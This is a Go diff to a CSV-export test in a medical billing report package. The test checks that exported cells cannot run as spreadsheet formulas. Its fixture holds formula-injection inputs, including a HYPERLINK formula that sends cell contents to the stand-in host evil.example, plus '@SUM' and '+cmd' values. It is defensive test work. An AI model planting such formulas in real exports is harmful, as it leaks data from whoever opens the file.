@@ -4,6 +4,8 @@ import (
 	"encoding/csv"
 	"strings"
 	"testing"
+
+	"github.com/outreach-engine/outreach/internal/care"
 )
 
 // The report as CSV writes no cell a spreadsheet would run as a formula (a text cell that
@@ -11,7 +13,7 @@ import (
 // numeric columns stay plain numbers.
 func TestWriteCSVMakesFormulasInert(t *testing.T) {
 	rep := MonthReport{Report: Report{Month: "2026-03", Rows: []Row{
-		{Patient: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Program: CCM, BillingNPI: "@SUM(1+1)", Seconds: 1260,
+		{Patient: `=HYPERLINK("http://evil.example/?"&A1,"Open")`, Program: care.CCM, BillingNPI: "@SUM(1+1)", Seconds: 1260,
 			Status: Billable, Codes: []CodeLine{{Code: Code99490, Units: 1, AmountCents: 6613}}, AmountCents: 6613,
 			Reasons: []Reason{"+cmd"}, Next: &Next{Code: Code99439, MinutesNeeded: 19}},
 	}}}
